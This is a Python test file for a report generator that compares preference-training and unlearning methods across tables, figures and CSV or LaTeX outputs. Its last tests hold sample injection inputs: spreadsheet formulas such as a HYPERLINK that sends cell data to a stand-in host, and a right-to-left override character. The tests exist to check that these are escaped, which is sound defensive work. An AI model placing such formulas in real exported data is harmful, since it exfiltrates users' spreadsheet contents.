    place = {"dataset": "d", "model": "m", "prompts": "test", "seed": "all", "n": 9}
    rows = [
        place | {"method": method, "step": step, "metric": key, "mean": mean, "low": mean - 0.1, "high": mean + 0.1}
        for key, last in ((one, -80), (other, -9))
        for method, step, mean in (("d2o", 0, -1), ("d2o", 9, -3), ("ga", 0, -1), ("ga", 9, last))
    ]
    measured = SimpleNamespace(metrics={m.key: m for m in HUMAN_METRICS}, methods=["d2o", "ga"], blocks=[])
    axes = [axis for axis in figures.course(pd.DataFrame(rows), measured).axes if axis.get_visible()]
    assert [axis.get_yscale() for axis in axes] == ["symlog", "linear"]
    start, end = axes[0].transAxes.inverted().transform(axes[0].transData.transform([(0, -1), (9, -3)]))[:, 1]
    assert start - end > 0.1, "what d2o has lost can be seen"


def test_snapshots_without_scores_have_no_distributions(tmp_path):
    folder, page, _ = made(tmp_path, config(methods=["d2o-steps"], rewards=[], judges=[], tasks=[]))
    assert "course.csv" in page.links
    assert not (folder / "figures/distributions.svg").exists()
    assert next(csv.DictReader((folder / "course.csv").open()))["step"] == "10"

    without = config(methods=["d2o"], rewards=[], judges=[], tasks=[])
    Results(tmp_path, without)
    report.write(without, tmp_path, folder / "report.html")
    assert not list(folder.rglob("course*")), "figures of a report before this one"


def test_without_judge_reward_and_task(tmp_path):
    _, page, table = made(tmp_path, config(rewards=[], judges=[], tasks=[]))
    assert {metric.split("/")[0] for _, metric, _ in table} == {"human", "answers"}
    assert "win rate" not in page.text and "weak evidence" not in page.text


@pytest.mark.parametrize("method", ["initial", "d2o"])
def test_one_method_is_compared_with_nothing(tmp_path, method):
    _, page, table = made(tmp_path, config(methods=[method], judges=[]))
    assert all(row["difference"] == "" for row in table.values())
    assert ("d2o", "human/implicit_accuracy", "test") not in table
    assert ("trained from" in page.text) == (method == "d2o")


def test_a_log_without_positives(tmp_path):
    folder, _, table = made(tmp_path, config(methods=["initial", "npo"], judges=[]), positives=False)
    assert {m for _, m, _ in table if m.startswith("human/")} == {"human/negative_logprob"}
    assert value(table["npo", "human/negative_logprob", "test"], "difference") == [-1]
    rows = [line.split("|") for line in folder.joinpath("table.md").read_text().splitlines() if "|" in line]
    columns = [i for i, cell in enumerate(rows[0]) if "positives" in cell or "implicit" in cell]
    assert len(columns) == 3 and all(row[i].strip() == "–" for row in rows[2:] for i in columns)


def test_evaluation_prompts_without_a_test_split(tmp_path):
    _, page, table = made(tmp_path, config(tasks=[]), prompts=0, evaluation=2)
    assert {prompts for _, _, prompts in table} == {"xstest.csv"}
    assert "of the test split" not in page.text


def test_nothing_measured_is_a_report_all_the_same(tmp_path):
    chosen = config(methods=["d2o"], rewards=[], judges=[], tasks=[])
    results = Results(tmp_path, chosen)
    for folder in (tmp_path / "pku/smol/d2o/seed0", tmp_path / "pku/smol/d2o/seed1"):
        write(folder / "responses.parquet", schemas.SAMPLES, [])
        write(folder / "heldout_logprobs.parquet", schemas.LOGPROBS, [])
    report.write(results.settings, tmp_path, tmp_path / "reports/demo/report.html")
    assert (tmp_path / "reports/demo/table.csv").read_text().count("\n") == 1


def test_one_prompt_has_no_interval(tmp_path):
    folder, page, table = made(tmp_path, config(rewards=[], tasks=[]), prompts=1)
    row = table["d2o", "human/negative_logprob", "test"]
    assert (row["mean"], row["low"], row["difference_low"], row["n"]) == ("-3", "", "", "1")
    assert "−3.000 –" in folder.joinpath("table.md").read_text()
    assert "NaN" not in page.text and "nan" not in folder.joinpath("table.md").read_text()


def test_a_figure_is_one_entry(tmp_path, monkeypatch):
    """A function and its entry suffice for files and a place in the page; a figure without data is removed."""

    def counts(measured):
        return pd.DataFrame({"method": measured.methods, "blocks": len(measured.blocks)})

    def bars(data, measured):
        figure = Figure()
        figure.subplots().bar(data["method"], data["blocks"])
        return figure

    full = config(methods=["d2o"], rewards=[], judges=[], tasks=[])
    entry = figures.Entry(
        counts, bars, "training", "Bars, by method", "What <i>bars</i> tell.", lambda measured: measured.blocks
    )
    monkeypatch.setitem(figures.FIGURES, "bars", entry)
    folder, page, _ = made(tmp_path, full)
    html = (folder / "report.html").read_text()
    assert all((folder / f"figures/bars.{kind}").exists() for kind in ("svg", "pdf", "png"))
    assert (folder / "figures/bars.csv").read_text() == "method,blocks\nd2o,1\n"
    section = html[html.index('<section id="training">') : html.index('<section id="data">')]
    assert 'aria-label="Bars, by method"' in section and "What bars tell." in page.text

    monkeypatch.setitem(figures.FIGURES, "bars", replace(entry, when=lambda measured: False))
    report.write(full, tmp_path, folder / "report.html")
    assert not list(folder.glob("figures/bars*"))
    assert "Bars, by method" not in (folder / "report.html").read_text()


def test_the_table_in_latex(full):
    """Nothing that LaTeX cannot set: no symbol beyond ASCII, no unescaped per cent sign."""
    folder, _, _ = full
    text = (folder / "table.tex").read_text()
    assert text.isascii() and r"cost~$\downarrow$" in text and r"$\blacktriangle$" in text
    rows = [line for line in text.splitlines() if line.endswith(r"\\")]
    assert len(rows) > 10 and all(line.count(" & ") == 3 for line in rows)
    assert not re.search(r"(?<!\\)%", "".join(rows))


def test_columns_with_the_same_name():
    """A scorer may have the name of another metric: each keeps its own column."""
    metrics = {m.key: m for m in (replace(HUMAN_METRICS[3], key="reward/margin", group=SCORED), *HUMAN_METRICS)}
    rows = [
        ["pku", "smol", "d2o", key, "test", "p", "", n] for n, key in enumerate(["reward/margin", "human/margin"])
    ]
    columns = ["dataset", "model", "method", "metric", "prompts", "cluster", "stratum", "value"]
    values = pd.DataFrame(rows, columns=columns).assign(seed=0)
    chosen = config(methods=["d2o"])
    compared = tables.comparisons(values, metrics, chosen.experiments["demo"])
    block = tables.Block("pku", "smol", tables.estimates(values, metrics), pd.DataFrame(), compared, *5 * [None])
    text = tables.as_markdown(tables.Measured(chosen, metrics, [block], {}))
    header, _, row = (line.split("|") for line in text.splitlines() if line.startswith("|"))
    cells = [cell.strip() for name, cell in zip(header, row, strict=True) if name.strip() == "margin\u00a0↑"]
    assert cells == ["0.000 –", "1.000 –"]


@pytest.mark.parametrize("name", ["scores/harm.parquet", "train.jsonl", "heldout_logprobs.parquet"])
def test_a_missing_artifact_is_named_and_nothing_is_written(tmp_path, name):
    chosen = config(tasks=[])
    Results(tmp_path, chosen)
    (tmp_path / "pku/smol/dpo/seed1" / name).unlink()
    with pytest.raises(D2OError, match=rf"dpo/seed1/{re.escape(name)}: no such file"):
        report.write(chosen, tmp_path, tmp_path / "reports/demo/report.html")
    assert not (tmp_path / "reports").exists()


def test_a_digit_of_a_training_log_that_is_another_one_is_seen(tmp_path):
    chosen = config(tasks=[])
    Results(tmp_path, chosen)
    log = tmp_path / "pku/smol/dpo/seed1/train.jsonl"
    log.write_text(log.read_text().replace("0.69", "0.68", 1))
    with pytest.raises(D2OError, match=r"dpo/seed1/train\.jsonl: gone or damaged since it was written; delete it"):
        report.write(chosen, tmp_path, tmp_path / "reports/demo/report.html")


def test_scores_of_other_prompts_are_refused(tmp_path):
    chosen = config(tasks=[])
    results = Results(tmp_path, chosen)
    rows = [
        {"prompt_id": "0123", "sample": 0, "score": 1.0},
        {"prompt_id": results.ids[0], "sample": 0, "score": 1.0},
    ]
    write(tmp_path / "pku/smol/d2o/seed0/scores/harm.parquet", schemas.SCORES, rows)
    with pytest.raises(D2OError, match="prompt 0123 is not in prompts"):
        report.write(chosen, tmp_path, tmp_path / "reports/demo/report.html")


def test_two_experiments_are_two_reports(tmp_path):
    chosen = config()
    two = chosen.model_copy(update={"experiments": dict.fromkeys("ab", chosen.experiments["demo"])})
    with pytest.raises(D2OError, match="one experiment, not 2"):
        report.write(two, tmp_path, tmp_path / "report.html")


def test_duration():
    from d2o.report.page import duration

    assert [duration(s) for s in (45.2, 200, 7500, 59.7)] == ["45 s", "3 min 20 s", "2 h 05 min", "1 min 00 s"]


def test_the_sheets_of_online_rounds(tmp_path):
    folder, *_ = made(tmp_path, config(methods=["d2o-online"], rewards=[], judges=[], tasks=[]))
    html = (folder / "report.html").read_text()
    lines = [f"<td>d2o-online</td><td>{seed}</td><td>{number}</td>" for seed in (0, 1) for number in (1, 2)]
    assert [line for line in lines if line in html] == lines
    assert "d2o-online: online from step 10 on; every 10 steps fresh answers of the policy replace 50 % of" in html


def test_the_scores_that_a_method_filters_its_pool_by(tmp_path, svgs):
    chosen = config(methods=["d2o-best"], rewards=[], judges=[], tasks=[])
    assert chosen.rewards.keys() == {"harm"} and chosen.models.keys() == {"smol"}
    made = Results(tmp_path, chosen)
    rows = [{"prompt_id": p, "sample": k, "score": float(k)} for p in made.ids for k in range(4)]
    write(tmp_path / "pku/smol/positives/corrected-k4.scores/harm.parquet", schemas.SCORES, rows)
    report.write(chosen, tmp_path, tmp_path / "reports/demo/report.html")
    assert "score, harm" in (tmp_path / "reports/demo/report.html").read_text()


@pytest.mark.parametrize("rewards", [["harm", "cost"], ["cost"]])
def test_a_scorer_that_chose_the_positives_is_told(tmp_path, rewards):
    chosen = config(methods=["d2o", "d2o-best"], rewards=rewards, judges=[], tasks=[])
    results = Results(tmp_path, chosen)
    rows = [{"prompt_id": p, "sample": k, "score": float(k)} for p in results.ids for k in range(4)]
    write(tmp_path / "pku/smol/positives/corrected-k4.scores/harm.parquet", schemas.SCORES, rows)
    report.write(chosen, tmp_path, tmp_path / "reports/demo/report.html")
    text = Page((tmp_path / "reports/demo/report.html").read_text()).text
    assert ("Scores of harm are circular for d2o-best" in text) == ("harm" in rewards)
    assert text.count("circular") == ("harm" in rewards)


def test_the_data_sheet_of_a_pool(full):
    folder, page, _ = full
    assert "67 of 68 are usable; sampled again: 1." in page.text
    assert "repeating, truncated" in page.text
    assert 'aria-label="Lengths of the samples, and their flags"' in (folder / "report.html").read_text()


# The paper's tables and figures ----------------------------------------------------------------------


@pytest.fixture(scope="module")
def shown(tmp_path_factory):
    chosen = config(
        methods=["initial", "d2o-steps", "d2o-steps-k2", "dpo"],
        shows=["table1", "table2", "figure3", "figure4"],
        judges=[],
        comparisons=[["dpo", "d2o-steps"]],
    )
    return made(tmp_path_factory.mktemp("shown"), chosen)


def frame(path: Path) -> pd.DataFrame:
    return pd.read_csv(path)


def test_tables_of_the_paper_say_what_they_are_worth(shown):
    folder, page, table = shown
    first, second = (frame(folder / f"{name}.csv") for name in ("table1", "table2"))
    row = first[(first["method"] == "dpo") & (first["metric"] == "reward/cost")].iloc[0]
    assert row["mean"] == pytest.approx(float(table["dpo", "reward/cost", "test"]["mean"]), abs=1e-5)
    assert first["paper"].isna().all(), "no number of the paper is of this model"
    # The other side is the first trained method, on whichever side it is named.
    assert set(second["other"]) == {"d2o-steps"} and set(second["method"]) == {"d2o-steps-k2", "dpo"}
    kinds = second.set_index(["metric", "method"])["kind"]
    assert kinds["reward/cost", "dpo"] == "primary" and kinds["reward/cost", "d2o-steps-k2"] == "exploratory"
    for name in ("table1", "table2"):
        text, latex = (folder / f"{name}.md").read_text(), (folder / f"{name}.tex").read_text()
        for said in (f"n = {PROMPTS}–37 prompts or questions", "over seeds and prompts (2 trainings", "Holm"):
            assert said in text, said
        assert latex.isascii() and r"\toprule" in latex and name + ".tex" in page.links


def test_numbers_of_the_paper_stand_beside_ours(tmp_path):
    chosen = config(methods=["initial", "dpo-ori"], shows=["table1"], judges=[], tasks=[])
    chosen = chosen.model_copy(update={"models": {"smol": Model(hub="PKU-Alignment/alpaca-7b-reproduced",
                                                                revision="main")}})  # fmt: skip
    cost = chosen.rewards["cost"].model_copy(update={"source": Source(hub="PKU-Alignment/beaver-7b-v1.0-cost",
                                                                      revision="main")})  # fmt: skip
    chosen = chosen.model_copy(update={"rewards": chosen.rewards | {"cost": cost}})
    folder, _, _ = made(tmp_path, chosen)
    numbers = frame(folder / "table1.csv").set_index(["method", "metric"])["paper"]
    assert numbers["initial", "reward/cost"] == 1.36 and numbers["dpo-ori", "reward/cost"] == -1.02
    assert np.isnan(numbers["dpo-ori", "reward/harm"])
    assert "(paper: −1.02)" in (folder / "table1.md").read_text()


def test_figure_3(shown):
    folder, page, _ = shown
    data = frame(folder / "figures/figure3.csv")
    points = data[(data["panel"] == "a") & (data["metric"] == "reward/cost")]
    single, points = points[points["seed"] != "all"], points[points["seed"] == "all"]
    assert points["x"].tolist() == [2, 4] and (points["low"] < points["mean"]).all()
    assert single.groupby("x")["seed"].unique().map(sorted).tolist() == [["0", "1"]] * 2
    assert single.groupby("x")["mean"].mean().tolist() == pytest.approx(points["mean"].tolist(), abs=1e-5)
    trend = data[(data["panel"] == "a, per doubling of K") & (data["metric"] == "reward/cost")].iloc[0]
    # Two trainings per K: the line goes through the mean at each K, one doubling apart.
    assert trend["mean"] == pytest.approx(points["mean"].iloc[1] - points["mean"].iloc[0], abs=1e-5)
    assert trend["n"] == 4 and trend["low"] < trend["mean"] < trend["high"]
    steps = data[(data["panel"] == "b") & (data["metric"] == "reward/cost") & (data["series"] == "d2o-steps")]
    single, steps = steps[steps["seed"] != "all"], steps[steps["seed"] == "all"]
    assert steps["x"].tolist() == [0, 10, 20, 30] and len(single) == 2 * len(steps)
    assert single.groupby("x")["mean"].mean().tolist() == pytest.approx(steps["mean"].tolist(), abs=1e-5)
    raw, smooth = (data[(data["panel"] == panel) & (data["series"] == "dpo")] for panel in ("c, raw", "c"))
    assert len(raw) == 60 and len(smooth) == 30
    middle = smooth.set_index("x").loc[15]
    assert middle["mean"] == pytest.approx(raw[raw["x"].isin([14, 15, 16])]["mean"].mean(), abs=1e-4)
    assert middle["low"] < middle["mean"] < middle["high"]
    assert all((folder / f"figures/figure3.{kind}").stat().st_size for kind in ("svg", "pdf", "png"))
    assert "Per doubling" in page.text


def test_figure_4_tells_one_mode_from_two():
    from d2o.report import paper

    rng = np.random.default_rng(0)
    one, two = rng.normal(size=300), np.concatenate([rng.normal(-3, 1, 150), rng.normal(3, 1, 150)])
    rows = [
        {"step": step, "cluster": i, "value": value, "seed": seed}
        for step, values in ((0, one), (100, two))
        for seed in (0, 1)
        for i, value in enumerate(values)
    ]
    first, second = paper._densities(pd.DataFrame(rows))
    assert first["p_adjusted"].iloc[0] > 0.2 and second["p_adjusted"].iloc[0] < 0.01
    # Two seeds of the same scores are no new evidence.
    assert first["n"].iloc[0] == 300
    step = np.diff(first["score"]).mean()
    assert (first["density"] * step).sum() == pytest.approx(1, abs=0.02)


def test_figure_4(shown):
    folder, page, _ = shown
    data = frame(folder / "figures/figure4.csv")
    assert set(data["method"]) == {"d2o-steps", "d2o-steps-k2"} and data["step"].unique().tolist() == [0, 10, 20, 30]
    assert data["dip"].notna().all() and data["p_adjusted"].between(0, 1).all()
    assert "dip test of one mode" in page.text


def test_a_category_cannot_turn_what_follows_or_break_a_figure():
    counts = {"train_categories": {"\u202eevil": 3, "a\x01b": 2, "Drugs": 1}}
    archive = SimpleNamespace(manifest=lambda *_, **__: {"counts": counts})
    assert page.categories(archive, "demo") == {"train": {"\\u202eevil": 3, "a\\u0001b": 2, "Drugs": 1}}
    assert page._counts(archive, "demo")["train categories"] == "\\u202eevil 3, a\\u0001b 2, Drugs 1"


def test_no_text_of_data_is_a_formula_in_a_file_that_a_spreadsheet_opens():
    formulas = ['=HYPERLINK("http://x/"&A1,"see")', "+1", "-1", "@SUM(A1)"]
    texts = [*formulas, "\t=1", "\r=1", "a\r=1", "Violence", "a=b", None]
    numbers = {"negatives": range(-1, 9), "mean": [-0.5] * 10, "metric": ["reward/cost"] * 10}
    rows = pd.DataFrame({"category": texts} | numbers)
    read = list(csv.reader(io.StringIO(tables.as_csv([rows], list(rows.columns)), newline="")))
    kept = ["\\u0009=1", "\\u000d=1", "a\\u000d=1", "Violence", "a=b", ""]
    assert [row[0] for row in read[1:]] == [*(f"'{text}" for text in formulas), *kept]
    assert read[1][1:] == ["-1", "-0.5", "reward/cost"]
    assert rows["category"].to_list() == texts, "the caller's own rows are as before"
